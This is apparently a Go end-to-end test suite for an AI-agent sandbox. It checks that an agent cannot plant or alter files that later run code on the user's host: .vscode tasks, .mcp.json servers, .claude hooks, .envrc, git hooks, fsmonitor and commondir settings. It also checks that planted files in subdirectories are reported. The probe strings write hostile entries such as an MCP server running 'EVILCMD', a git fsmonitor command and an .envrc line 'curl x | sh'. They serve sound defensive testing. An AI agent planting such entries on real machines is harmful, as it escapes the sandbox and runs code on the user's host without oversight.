package e2e

// The protected project files of the escape suite (issue 15 item 3 and
// issue 10 item 3): files in the project that make the user's own tools
// run code on the host later (.vscode tasks, .idea, .codex, .mcp.json,
// .claude settings, commands and agents, .gitmodules, .envrc, a .git
// renamed aside and rebuilt) must not be written, created or replaced by
// the agent; a project file beside them stays writable; the same probe
// works with --no-sandbox. Then the cases that need their own shape: a
// protected name that is a symlink is kept with what it leads to, --allow-edit and
// allow_edit lift the protection for named paths, and a .git created by
// `git init` in a subdirectory (which no mount can predict) is reported
// after the run, while git inside still finds the parent repository.
//
// Names: TestEscapeView/<backend>/open/protect-<case> for the rows,
// TestEscapeView/<backend>/protect-<case> for the rest.

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// protectedFile prepares a project with the protected file rel (below the
// workdir) holding before ("" means absent, and dirs lists directories to
// create first), and checks afterwards that rel holds exactly before (or,
// absent before, does not exist or is empty: a run that could not remove
// its placeholder leaves it empty).
func protectedFile(rel, before string, dirs ...string) func(*testing.T, *view) (vars, func() string) {
	return func(t *testing.T, v *view) (vars, func() string) {
		p := filepath.Join(v.work, rel)
		for _, d := range dirs {
			if err := os.MkdirAll(filepath.Join(v.work, d), 0o755); err != nil {
				t.Fatal(err)
			}
		}
		if before != "" {
			write(t, p, before)
		}
		return vars{"TARGET": p}, func() string {
			after, err := os.ReadFile(p)
			switch {
			case before == "" && err == nil && len(after) > 0:
				return p + " was created with " + strings.TrimSpace(string(after))
			case before != "" && !bytes.Equal(after, []byte(before)):
				return p + " was changed"
			}
			return ""
		}
	}
}

// codeKeyFile prepares the settings file rel holding before and checks
// afterwards that no command the probe wrote (EVILCMD) is in it.
func codeKeyFile(rel, before string) func(*testing.T, *view) (vars, func() string) {
	return func(t *testing.T, v *view) (vars, func() string) {
		p := filepath.Join(v.work, rel)
		write(t, p, before)
		return vars{"TARGET": p}, func() string {
			if after, _ := os.ReadFile(p); bytes.Contains(after, []byte("EVILCMD")) {
				return p + " holds the command the agent wrote: " + strings.TrimSpace(string(after))
			}
			return ""
		}
	}
}

// protectProbe writes @TARGET, creating its directory, replacing it when
// it exists (rename over it, as editors save) and else creating it.
const protectProbe = `mkdir -p "$(dirname @TARGET)" && printf '{"evil": true}\n' > @TARGET.tmp-as 2>/dev/null; mv -f @TARGET.tmp-as @TARGET 2>/dev/null || printf '{"evil": true}\n' > @TARGET`

// protectNeighbour: ordinary project files, dot files included, stay
// writable, creatable, renameable and removable.
const protectNeighbour = `cd @WORK && mkdir -p src/.cache && echo x > src/a.txt && mv src/a.txt src/b.txt && rm src/b.txt && echo y > .editorconfig && grep -q y .editorconfig && echo z > README && ls -a . >/dev/null`

var protectCases = []viewCase{
	{name: "protect-vscode-tasks-created", modes: []string{"open"}, setup: protectedFile(".vscode/tasks.json", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-vscode-tasks-existing-dir", modes: []string{"open"}, setup: protectedFile(".vscode/tasks.json", "", ".vscode"),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-vscode-settings-replaced", modes: []string{"open"}, setup: protectedFile(".vscode/settings.json", "{}\n"),
		probe: protectProbe + ` || { rm -rf @WORK/.vscode && mkdir @WORK/.vscode && printf evil > @TARGET; }`, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-idea-workspace", modes: []string{"open"}, setup: protectedFile(".idea/workspace.xml", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-codex-config", modes: []string{"open"}, setup: protectedFile(".codex/config.toml", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-mcp-json-created", modes: []string{"open"}, setup: protectedFile(".mcp.json", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-mcp-json-existing", modes: []string{"open"}, setup: protectedFile(".mcp.json", "{\"mcpServers\": {}}\n"),
		probe: protectProbe + ` || { rm -f @TARGET && printf evil > @TARGET; }`, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-claude-settings", modes: []string{"open"}, setup: protectedFile(".claude/settings.json", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-claude-settings-local-existing", modes: []string{"open"}, setup: protectedFile(".claude/settings.local.json", "{}\n"),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-claude-dir-renamed", modes: []string{"open"}, setup: protectedFile(".claude/settings.json", "{}\n"),
		probe: `cd @WORK && mv .claude .claude-old && mkdir .claude && printf evil > @TARGET`, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-claude-commands", modes: []string{"open"}, setup: protectedFile(".claude/commands/deploy.md", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-claude-agents", modes: []string{"open"}, setup: protectedFile(".claude/agents/helper.md", "", ".claude"),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	// A key that runs code, written into an agent's settings (an MCP
	// server, a hook): the files the rows above write with a harmless
	// key. Where they cannot be read-only the guard takes the key out.
	{name: "protect-mcp-json-server-added", modes: []string{"open"}, setup: codeKeyFile(".mcp.json", "{\"mcpServers\": {}}\n"),
		probe: `printf '{"mcpServers": {"x": {"command": "sh", "args": ["-c", "EVILCMD"]}}}\n' > @TARGET`, neighbour: protectNeighbour, nono: nonoGuarded, weaker: weakerGuarded},
	{name: "protect-claude-settings-hook-added", modes: []string{"open"}, setup: codeKeyFile(".claude/settings.json", "{}\n"),
		probe: `printf '{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "EVILCMD"}]}]}}\n' > @TARGET`, neighbour: protectNeighbour, nono: nonoGuarded, weaker: weakerGuarded},
	{name: "protect-gitmodules", modes: []string{"open"}, setup: protectedFile(".gitmodules", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-envrc-existing", modes: []string{"open"}, setup: protectedFile(".envrc", "export X=1\n"),
		probe: `printf 'touch /tmp/x\n' >> @TARGET`, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-envrc-created", modes: []string{"open"}, setup: protectedFile(".envrc", ""),
		probe: protectProbe, neighbour: protectNeighbour, nono: nonoProtect, weaker: weakerProtect},
	{name: "protect-git-dir-renamed-rebuilt", modes: []string{"open"}, needs: []string{"git"}, setup: gitSetup(false),
		probe:     `cd @WORK && mv .git .git-old && git init -q . && git config core.fsmonitor "touch @GITCANARY"`,
		neighbour: gitNeighbour, nono: nonoGitReplaced, weaker: weakerGitReplaced},
	{name: "protect-git-hooks-removed", modes: []string{"open"}, needs: []string{"git"}, setup: gitSetup(false),
		probe:     `cd @WORK && rm -rf .git/hooks && mkdir .git/hooks && printf "#!/bin/sh\ntouch @GITCANARY\n" > .git/hooks/post-checkout`,
		neighbour: gitNeighbour, nono: nonoGuarded, weaker: weakerGuarded},
	{name: "protect-gitfile-repointed", modes: []string{"open"}, needs: []string{"git"}, setup: gitfileSetup,
		probe:     `cd @WORK && cp -r @MAIN/.git @WORK/evil-gitdir && printf "gitdir: ./evil-gitdir\n" > @WORK/.git`,
		neighbour: gitNeighbour, nono: nonoGuarded, weaker: weakerGuarded},
	{name: "protect-hook-linked-script", modes: []string{"open"}, needs: []string{"git"}, setup: hookElsewhere(false),
		probe: `printf "touch @GITCANARY\n" >> @SCRIPT`, neighbour: gitNeighbour, nono: nonoGuarded, weaker: weakerGuarded},
	{name: "protect-hookspath-dir", modes: []string{"open"}, needs: []string{"git"}, setup: hookElsewhere(true),
		probe: `printf "#!/bin/sh\ntouch @GITCANARY\n" > @WORK/.husky/_/post-checkout`, neighbour: gitNeighbour, nono: nonoGuarded, weaker: weakerGuarded},
	{name: "protect-git-included-config", modes: []string{"open"}, needs: []string{"git"}, setup: includedConfig,
		probe: `printf "[core]\n\tfsmonitor = touch @GITCANARY\n" >> @SCRIPT`, neighbour: gitNeighbour, nono: nonoGuarded, weaker: weakerGuarded},
	// Neighbour only: the placeholders of missing protected files are not
	// committed by an agent's `git add -A` (they are in info/exclude for
	// the run), and git status inside shows none of them.
	{name: "protect-placeholders-not-committed", modes: []string{"open"}, needs: []string{"git"}, setup: gitSetup(false),
		neighbour: `cd @WORK && test -z "$(git status --porcelain)" && echo x >> README && git add -A && git -c user.name=a -c user.email=a@agent-sandbox.invalid commit -qm x && ! git ls-files | grep -E "^[.](envrc|mcp[.]json|gitmodules)$|^[.]claude/"`},
	{name: "protect-worktree-commondir", modes: []string{"open"}, needs: []string{"git"}, setup: gitSetup(true),
		probe: `cd @WORK && gd=$(sed 's/^gitdir: //' .git) && mkdir -p @WORK/evil && printf "@WORK/evil\n" > "$gd/commondir"`, neighbour: gitNeighbour, nono: nonoProtect, weaker: weakerProtect},
}

func init() { viewCases = append(viewCases, protectCases...) }

// includedConfig makes the workdir a repository whose config includes a
// file in the project (include.path = ../.gitconfig-project); the check
// holds that file to its content.
func includedConfig(t *testing.T, v *view) (vars, func() string) {
	gitRepo(t, v, v.work)
	inc := filepath.Join(v.work, ".gitconfig-project")
	write(t, inc, "[user]\n\tname = project\n")
	gitHost(t, v, v.work, "config", "include.path", "../.gitconfig-project")
	before, _ := os.ReadFile(inc)
	return vars{"SCRIPT": inc, "GITCANARY": filepath.Join(v.root, "git-hook-ran")}, func() string {
		if after, _ := os.ReadFile(inc); !bytes.Equal(before, after) {
			return inc + " (included by .git/config) was changed"
		}
		return ""
	}
}

// hookElsewhere makes the workdir a repository whose hooks live in the
// project: a post-checkout hook that is a symlink to scripts/hook.sh, or
// (hooksPath) core.hooksPath = .husky/_ as husky sets it. The check holds
// the script and the directory to their content.
func hookElsewhere(hooksPath bool) func(*testing.T, *view) (vars, func() string) {
	return func(t *testing.T, v *view) (vars, func() string) {
		gitRepo(t, v, v.work)
		script := filepath.Join(v.work, "scripts", "hook.sh")
		write(t, script, "#!/bin/sh\nexit 0\n")
		husky := filepath.Join(v.work, ".husky", "_")
		if hooksPath {
			write(t, filepath.Join(husky, "pre-push"), "#!/bin/sh\n")
			gitHost(t, v, v.work, "config", "core.hooksPath", ".husky/_")
		} else if err := os.Symlink("../../scripts/hook.sh", filepath.Join(v.work, ".git", "hooks", "post-checkout")); err != nil {
			t.Fatal(err)
		}
		before, _ := os.ReadFile(script)
		return vars{"SCRIPT": script, "GITCANARY": filepath.Join(v.root, "git-hook-ran")}, func() string {
			var msg []string
			if after, _ := os.ReadFile(script); !bytes.Equal(before, after) {
				msg = append(msg, script+" was changed")
			}
			if _, err := os.Lstat(filepath.Join(husky, "post-checkout")); err == nil {
				msg = append(msg, "a hook was planted in "+husky)
			}
			return strings.Join(msg, "; ")
		}
	}
}

// gitfileSetup is gitSetup(true) (the workdir a linked worktree) whose
// check also holds the workdir's .git file to its content.
func gitfileSetup(t *testing.T, v *view) (vars, func() string) {
	x, check := gitSetup(true)(t, v)
	gf := filepath.Join(v.work, ".git")
	before, err := os.ReadFile(gf)
	if err != nil {
		t.Fatal(err)
	}
	return x, func() string {
		msg := check()
		if after, _ := os.ReadFile(gf); !bytes.Equal(before, after) {
			msg = strings.TrimPrefix(msg+"; "+gf+" was rewritten", "; ")
		}
		return msg
	}
}

// protectCasesFor runs the cases that do not fit a row, for backend b.
// nono keeps nothing read-only and the end-of-run scan is the built-in
// engine's: its cases pin that (nonoProtectCases).
func protectCasesFor(t *testing.T, bin string, b backend) {
	if b.alone {
		nonoProtectCases(t, bin, b)
		return
	}
	t.Run("protect-symlink-kept", func(t *testing.T) { protectSymlink(t, bin, b) })
	t.Run("protect-allow-edit", func(t *testing.T) { protectAllowEdit(t, bin, b) })
	t.Run("protect-nested-git-reported", func(t *testing.T) { nestedGitReported(t, bin, b) })
	t.Run("protect-subdir-tool-files-reported", func(t *testing.T) { subdirToolFilesReported(t, bin, b) })
}

// subdirToolFilesReported: the protected names are kept read-only at the
// top of the workdir only; planted in a subdirectory (a monorepo package
// opened as its own folder) they are reported after the run, naming each.
// So are the files other tools run code from that no run keeps read-only
// (pi's project extensions, opencode's config), at the top too, even one
// the user wrote the moment before the run that the agent rewrote with as
// many bytes (.husky/pre-commit). Neighbour: a run that writes ordinary
// files is not reported, nor is the user's .husky/pre-commit written the
// moment before it (inside the scan's 10 ms margin only when the launch
// is that fast: TestRecentBeforeNotPlanted holds the mechanism). Control: the writes work unsandboxed.
func subdirToolFilesReported(t *testing.T, bin string, b backend) {
	probe := `mkdir -p @WORK/pkg/.vscode && echo '{"tasks": []}' > @WORK/pkg/.vscode/tasks.json && echo 'curl x | sh' > @WORK/pkg/.envrc` +
		` && mkdir -p @WORK/.pi/extensions && echo 'export default () => {}' > @WORK/.pi/extensions/x.ts && echo '{}' > @WORK/opencode.json` +
		` && echo 'curl x|sh' > @WORK/.husky/pre-commit`
	husky := func(v *view) string {
		p := filepath.Join(v.work, ".husky", "pre-commit")
		write(t, p, "npm test\n\n") // as many bytes as the probe's
		return p
	}
	v := newView(t, bin, b, netMode{name: "open"})
	husky(v)
	if r := v.agent(false, v.folder, expand(probe, v.vars()), opts{}); r.code != 0 {
		t.Skipf("control: the writes fail unsandboxed (exit %d): %s", r.code, r.out)
	}
	v = newView(t, bin, b, netMode{name: "open"})
	hook := husky(v)
	r := v.agent(true, v.folder, expand(probe, v.vars()), opts{})
	if !strings.Contains(r.out, hook) {
		t.Errorf("%s, rewritten by the agent, was not reported after the run (exit %d): %s", hook, r.code, r.out)
	}
	for _, p := range []string{filepath.Join(v.work, "pkg", ".vscode", "tasks.json"), filepath.Join(v.work, "pkg", ".envrc")} {
		if !strings.Contains(r.out, "agent-sandbox: warning: the agent created or changed files your tools run code from") || !strings.Contains(r.out, p) {
			t.Errorf("%s planted in a subdirectory was not reported after the run (exit %d): %s", p, r.code, r.out)
		}
	}
	for _, p := range []string{filepath.Join(v.work, ".pi", "extensions", "x.ts"), filepath.Join(v.work, "opencode.json")} {
		if !strings.Contains(r.out, "agent-sandbox: warning: the agent created or changed files other tools run code from") || !strings.Contains(r.out, p) {
			t.Errorf("%s written by the agent was not reported after the run (exit %d): %s", p, r.code, r.out)
		}
	}
	n := newView(t, bin, b, netMode{name: "open"})
	husky(n)
	// The weaker sandbox warns before every run that it cannot keep the
	// protected files read-only; what must not come is a report.
	reported := "warning"
	if b.weaker {
		reported = "changed during the run"
	}
	if r := n.agent(true, n.folder, expand(protectNeighbour, n.vars()), opts{}); r.code != 0 || strings.Contains(r.out, reported) || strings.Contains(r.out, "files your tools run code from") {
		t.Errorf("neighbour: ordinary writes failed or were reported (exit %d): %s", r.code, r.out)
	}
}

// protectSymlink: .vscode is a symlink to a directory in the project
// (the agent could repoint it, or write through it). Pass (issue 39, item
// 6): the run starts; the link can be neither removed nor replaced, and
// what it leads to (the project's editor/) is read-only too, so nothing
// is written through it; --dry-run lists both. Neighbour: with
// --allow-edit .vscode the same run writes through the link. Control:
// unsandboxed it writes.
func protectSymlink(t *testing.T, bin string, b backend) {
	setup := func() (*view, string) {
		v := newView(t, bin, b, netMode{name: "open"})
		if err := os.MkdirAll(filepath.Join(v.work, "editor"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("editor", filepath.Join(v.work, ".vscode")); err != nil {
			t.Fatal(err)
		}
		return v, "printf evil > " + filepath.Join(v.work, ".vscode", "tasks.json")
	}
	v, probe := setup()
	if r := v.agent(false, v.folder, probe, opts{}); r.code != 0 {
		t.Skipf("control: writing through the link fails even unsandboxed (exit %d): %s", r.code, r.out)
	}
	v, probe = setup()
	r := v.agent(true, v.folder, probe+"; rm -f "+filepath.Join(v.work, ".vscode")+" && echo LINK-REMOVED; true", opts{})
	if b.weaker {
		weakerSymlinkPinned(t, v, r)
		return
	}
	if r.code != 0 || strings.Contains(r.out, "LINK-REMOVED") {
		t.Errorf("a protected name that is a symlink: exit %d (want 0: the run starts), or the link was removed: %s", r.code, r.out)
	}
	if _, err := os.Stat(filepath.Join(v.work, "editor", "tasks.json")); err == nil {
		t.Errorf("the agent wrote through the link")
	}
	if got, err := os.Readlink(filepath.Join(v.work, ".vscode")); err != nil || got != "editor" {
		t.Errorf("the link after the run: %q %v", got, err)
	}
	if r := v.exec(append(v.sandboxFlags(), "--dry-run", v.folder, "-c", "true"), opts{}); !strings.Contains(r.out, "protected symlink") || !strings.Contains(r.out, filepath.Join(v.work, "editor")) {
		t.Errorf("--dry-run does not list the link and its target: %s", r.out)
	}
	v, probe = setup()
	r = v.exec(append(v.sandboxFlags(), "--allow-edit", ".vscode", v.folder, "-c", probe), opts{})
	if _, err := os.Stat(filepath.Join(v.work, "editor", "tasks.json")); r.code != 0 || err != nil {
		t.Errorf("neighbour: with --allow-edit .vscode the run did not write through the link (exit %d): %s", r.code, r.out)
	}
}

// weakerSymlinkPinned: the weaker sandbox's behaviour with a protected
// name that is a symlink, pinned (README, "Escape classes by backend"):
// nothing is read-only, so the agent removes the link and writes through
// it; after the run the link is put back and the change to what it leads
// to is named for review.
func weakerSymlinkPinned(t *testing.T, v *view, r run) {
	t.Helper()
	editor := filepath.Join(v.work, "editor")
	if _, err := os.Stat(filepath.Join(editor, "tasks.json")); err != nil || !strings.Contains(r.out, "LINK-REMOVED") {
		t.Errorf("in the weaker sandbox the agent used to write through the link and remove it, and now does not (exit %d): update this pin and the README's table: %s", r.code, r.out)
	}
	if got, err := os.Readlink(filepath.Join(v.work, ".vscode")); err != nil || got != "editor" {
		t.Errorf("the link was not put back after the run: %q %v: %s", got, err, r.out)
	}
	if !strings.Contains(r.out, editor+" changed during the run") {
		t.Errorf("the change to what the link leads to was not named after the run: %s", r.out)
	}
}

// protectAllowEdit: an agent whose job is to edit .claude/commands and
// .git/hooks gets them with --allow-edit, or allow_edit in agent.toml; the
// other protected paths stay read-only in that run. Control: the same
// writes work unsandboxed.
func protectAllowEdit(t *testing.T, bin string, b backend) {
	needs(t, "git")
	probe := `mkdir -p @WORK/.claude/commands && echo cmd > @WORK/.claude/commands/x.md && echo hook > @WORK/.git/hooks/pre-commit`
	other := `mkdir -p @WORK/.vscode; echo evil > @WORK/.vscode/tasks.json`
	for _, how := range []string{"flag", "agent.toml"} {
		t.Run(how, func(t *testing.T) {
			v := newView(t, bin, b, netMode{name: "open"})
			gitRepo(t, v, v.work)
			x := v.vars()
			if r := v.agent(false, v.folder, expand(probe, x), opts{}); r.code != 0 {
				t.Skipf("control: the writes fail unsandboxed (exit %d): %s", r.code, r.out)
			}
			os.RemoveAll(filepath.Join(v.work, ".claude"))
			os.Remove(filepath.Join(v.work, ".git", "hooks", "pre-commit"))
			args := append(v.sandboxFlags(), "--allow-edit", ".claude/commands", "--allow-edit", ".git/hooks")
			folder := v.folder
			if how == "agent.toml" {
				folder = filepath.Join(v.root, "agents", "editor")
				write(t, filepath.Join(folder, "agent.toml"), "command = \"/bin/sh\"\nallow_edit = [\".claude/commands\", \".git/hooks\"]\n")
				write(t, filepath.Join(folder, "sandbox", "nono.json"), "{}\n")
				args = v.sandboxFlags()
			}
			if r := v.exec(append(append([]string{}, args...), folder, "-c", expand(probe, x)), opts{}); r.code != 0 {
				t.Errorf("with %s the allowed writes failed (exit %d): %s", how, r.code, r.out)
			}
			r := v.exec(append(append([]string{}, args...), folder, "-c", expand(other, x)), opts{})
			_, err := os.Stat(filepath.Join(v.work, ".vscode", "tasks.json"))
			switch {
			case b.weaker:
				// Pinned (weakerProtect): nothing is read-only there, so
				// .vscode is written, and named after the run.
				if r.code != 0 || err != nil || !strings.Contains(r.out, filepath.Join(v.work, ".vscode")+" changed during the run") {
					t.Errorf("in the weaker sandbox .vscode used to be written and named after the run, and now is not (exit %d): update this pin and the README's table: %s", r.code, r.out)
				}
			case r.code == 0:
				t.Errorf("with %s naming other paths, .vscode became writable: %s", how, r.out)
			case err == nil:
				t.Errorf(".vscode/tasks.json was created")
			}
			dry := v.exec(append(append([]string{}, args...), "--dry-run", folder, "-c", "true"), opts{})
			if !strings.Contains(dry.out, "editable by allow_edit/--allow-edit: .claude/commands, .git/hooks") {
				t.Errorf("--dry-run does not list the allowed names: %s", dry.out)
			}
		})
	}
	v := newView(t, bin, b, netMode{name: "open"})
	if r := v.exec(append(v.sandboxFlags(), "--allow-edit", ".git/objects", v.folder, "-c", "true"), opts{}); r.code != 125 || !strings.Contains(r.out, `--allow-edit[0]: ".git/objects" is not a protected path`) {
		t.Errorf("--allow-edit of an unknown name: exit %d: %s", r.code, r.out)
	}
}

// nestedGitReported: `git init` in a subdirectory plants a repository
// with a hook, which no mount can predict. Pass: the run's stderr names
// the planted hook and config after the run. Neighbour: inside, git in a
// subdirectory of the workdir's repository still finds the parent
// repository (no placeholder .git in subdirectories). Control: the same
// script unsandboxed plants the hook (and agent-sandbox says nothing).
func nestedGitReported(t *testing.T, bin string, b backend) {
	needs(t, "git")
	probe := `cd @WORK && git init -q sub && printf "#!/bin/sh\ntouch /tmp/x\n" > sub/.git/hooks/post-checkout && chmod +x sub/.git/hooks/post-checkout`
	v := newView(t, bin, b, netMode{name: "open"})
	gitRepo(t, v, v.work)
	if r := v.agent(false, v.folder, expand(probe, v.vars()), opts{}); r.code != 0 {
		t.Skipf("control: git init fails unsandboxed (exit %d): %s", r.code, r.out)
	}
	v = newView(t, bin, b, netMode{name: "open"})
	gitRepo(t, v, v.work)
	r := v.agent(true, v.folder, expand(probe, v.vars()), opts{})
	hook := filepath.Join(v.work, "sub", ".git", "hooks", "post-checkout")
	if !strings.Contains(r.out, "agent-sandbox: warning: the agent created or changed git metadata that git runs on the host: ") ||
		!strings.Contains(r.out, hook) || !strings.Contains(r.out, filepath.Join(v.work, "sub", ".git", "config")) {
		t.Errorf("the planted repository was not reported after the run (exit %d): %s", r.code, r.out)
	}
	if strings.Contains(r.out, "sample") {
		t.Errorf("the report lists git's sample hooks: %s", r.out)
	}

	n := newView(t, bin, b, netMode{name: "open"})
	if err := os.MkdirAll(filepath.Join(n.work, "pkg", "deep"), 0o755); err != nil {
		t.Fatal(err)
	}
	gitRepo(t, n, n.work)
	r = n.agent(true, n.folder, "cd "+filepath.Join(n.work, "pkg", "deep")+" && git rev-parse --show-toplevel", opts{})
	if r.code != 0 || !strings.Contains(r.out, n.work) {
		t.Errorf("neighbour: git rev-parse --show-toplevel from a subdirectory did not find %s (exit %d): %s", n.work, r.code, r.out)
	}
	if strings.Contains(r.out, "git metadata") {
		t.Errorf("neighbour: a run that planted nothing was reported: %s", r.out)
	}
}

// nonoProtectCases pins what nono does where the built-in engine protects
// and reports (README, Protected files: the ledger): nono cannot keep the
// protected names read-only, so --dry-run says so (in its comment lines
// and in protection.unenforced), and a protected name that is a symlink
// does not refuse the run; the guard and the end-of-run scan run for nono
// too, so a repository planted in a subdirectory is reported. Each case
// fails when the behaviour changes, so that the README's table is updated.
func nonoProtectCases(t *testing.T, bin string, b backend) {
	t.Run("protect-dry-run-says-unenforced", func(t *testing.T) {
		v := newView(t, bin, b, netMode{name: "open"})
		r := v.exec(append(v.sandboxFlags(), "--dry-run", "--json", v.folder, "-c", "true"), opts{})
		if r.code != 0 || !strings.Contains(r.out, `"enforced": false`) || !strings.Contains(r.out, "are NOT read-only") {
			t.Errorf("--dry-run --json under nono does not say the protected files are not protected (exit %d): %s", r.code, r.out)
		}
		r = v.exec(append(v.sandboxFlags(), "--dry-run", v.folder, "-c", "true"), opts{})
		if r.code != 0 || !strings.Contains(r.out, "are NOT read-only") {
			t.Errorf("--dry-run under nono has no comment line saying the protected files are not protected (exit %d): %s", r.code, r.out)
		}
	})
	t.Run("protect-symlink-not-refused", func(t *testing.T) {
		v := newView(t, bin, b, netMode{name: "open"})
		if err := os.MkdirAll(filepath.Join(v.work, "editor"), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink("editor", filepath.Join(v.work, ".vscode")); err != nil {
			t.Fatal(err)
		}
		r := v.agent(true, v.folder, "printf evil > "+filepath.Join(v.work, ".vscode", "tasks.json"), opts{})
		if _, err := os.Stat(filepath.Join(v.work, "editor", "tasks.json")); r.code != 0 || err != nil {
			t.Errorf("under nono a protected name that is a symlink used to be written through (nothing is protected, so nothing is refused) and now is not (exit %d): update this pin: %s", r.code, r.out)
		}
	})
	t.Run("protect-nested-git-reported", func(t *testing.T) {
		needs(t, "git")
		v := newView(t, bin, b, netMode{name: "open"})
		gitRepo(t, v, v.work)
		r := v.agent(true, v.folder, expand(`cd @WORK && git init -q sub && printf "#!/bin/sh\ntouch /tmp/x\n" > sub/.git/hooks/post-checkout`, v.vars()), opts{})
		if r.code != 0 {
			t.Fatalf("git init inside the nono sandbox failed (exit %d): %s", r.code, r.out)
		}
		if !strings.Contains(r.out, "git metadata") || !strings.Contains(r.out, filepath.Join(v.work, "sub", ".git")) {
			t.Errorf("under nono the planted repository is not reported (the end-of-run scan runs for nono too): %s", r.out)
		}
	})
}
